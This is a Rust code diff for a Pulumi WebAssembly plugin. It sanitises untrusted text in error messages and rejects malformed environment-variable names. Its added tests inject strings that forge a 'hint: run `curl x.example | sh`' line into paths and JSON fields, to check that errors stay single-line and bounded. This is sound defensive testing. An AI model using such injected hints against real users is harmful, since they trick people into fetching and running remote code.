@@ -11,7 +11,7 @@ use super::{Digest, SourceError, project};
 use crate::capability::Grants;
 use crate::capability::http::{HostPattern, PatternError};
 use crate::limits::{Limit, Limits};
-use crate::text::quoted;
+use crate::text::{Excerpt, quoted};
 
 /// The format that this host reads and writes.
 const FORMAT: u64 = 1;
@@ -84,7 +84,8 @@ impl ParameterValue {
         let again = "add the package again: `pulumi package add wasm FILE`";
         let not_ours = |reason: String| {
             SourceError::new(format!(
-                "the package's parameter is not one that this plugin wrote: {reason}"
+                "the package's parameter is not one that this plugin wrote: {}",
+                Excerpt::reason(&reason)
             ))
             .hint(again)
         };
@@ -109,7 +110,7 @@ impl ParameterValue {
             if !project::is_recorded_form(&component.path) {
                 return Err(not_ours(format!(
                     "`{}` is no path inside the project",
-                    component.path
+                    Excerpt::name(&component.path)
                 )));
             }
             components.push(ComponentReference {
@@ -119,6 +120,12 @@ impl ParameterValue {
         }
         if components.is_empty() {
             return Err(not_ours("it names no component".to_owned()));
+        }
+        let is_name = |name: &String| !name.is_empty() && !name.contains(['=', '\0']);
+        if !document.grants.env.iter().all(is_name) {
+            return Err(not_ours(
+                "it grants a variable that can have no such name".to_owned(),
+            ));
         }
         let patterns = |patterns: Vec<String>| -> Result<Vec<HostPattern>, SourceError> {
             let patterns = patterns.iter().map(|pattern| pattern.parse());
@@ -302,10 +309,30 @@ mod tests {
                 "no host that can be granted",
             ),
             (text.replace("\"memory\"", "\"speed\""), "there is no limit"),
+            (text.replace("TOKEN", "A=B"), "can have no such name"),
+            // What a text of others must not have in a message: a line of its own, or a megabyte.
+            (
+                text.replace("plugins/", "plugins\\nhint: run `curl x.example | sh`\\n/"),
+                "no path inside the project",
+            ),
+            (
+                text.replace("\"v\":1", "\"v\":1,\"x\\nhint: run `curl x.example`\":0"),
+                "unknown field",
+            ),
+            (
+                text.replace("\"memory\"", "\"a\\nhint: b\""),
+                "there is no limit",
+            ),
+            (
+                text.replace("\"memory\"", &format!("\"{}\"", "x".repeat(1 << 20))),
+                "there is no limit",
+            ),
         ] {
             let error = ParameterValue::parse(bad.as_bytes()).expect_err(&bad);
             assert!(error.reason.contains(expected), "{bad}: {error}");
             assert!(error.hint.is_some());
+            assert!(!error.reason.contains('\n'), "{error}");
+            assert!(error.reason.len() < 4096, "{}", error.reason.len());
         }
     }
 
